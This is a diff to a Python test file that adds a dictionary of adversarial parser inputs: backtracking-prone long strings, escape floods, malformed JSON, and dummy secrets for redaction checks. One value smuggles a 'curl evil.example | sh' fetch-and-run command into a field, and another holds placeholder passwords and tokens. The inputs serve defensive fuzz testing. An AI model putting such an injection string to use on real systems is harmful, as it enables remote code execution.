@@ -47,6 +47,23 @@ TEXTS: dict[str, str] = {
     "very long": MARK + "a" * 20_000,
     "format": f"{MARK} %s %n {{}} {{0.__class__}}",
 }  # fmt: skip
+# What backtracked before (SECURITY H3), and what broke a parser, a version or a mark (M3, M13): for parsers, not for outputs.
+INPUTS: dict[str, str] = {
+    "letters": "a" * 65_536,
+    "escapes": "\x1b]" * 32_768 + "\nX",
+    "tokens": "eyJ" * 21_845,
+    "private keys": "-----BEGIN PRIVATE KEY-----" * 2_400,
+    "lines, then a letter": "\n" * 65_536 + "x",
+    "a version without an end": "Upgrade to 1.1." + "1" * 65_536,
+    "screens": "SCREEN " * 9_400,
+    "pins": '"' + "pin" * 21_800,
+    "a success line in a line": "x" * 30_000 + " Upgrade to 2.21.0+1 succeeded " + "x" * 30_000,
+    "a mark": "x;curl${IFS}evil.example|sh;#__ops@jump__2026-01-10T21:00:00",
+    "a lone surrogate in JSON": '{"resources": [{"id": "\\udc80", "host": "\\ud800", "nodeID": "\\udfff"}], "total": 1}',
+    "a far time of a backup": '{"resources": [{"id": "b", "scope": "system", "createdAt": "2099-01-01T00:00:00Z"}], "total": 1}',
+    "a total that is none": '{"total": -1, "resources": [{"id": "a"}]}',
+    "a password in words": "FATAL: login admin password=hunter2 Authorization: Bearer eyJhbGciOi.x.y postgres://a:b@db",
+}
 
 
 def is_harmless(char: str) -> bool:
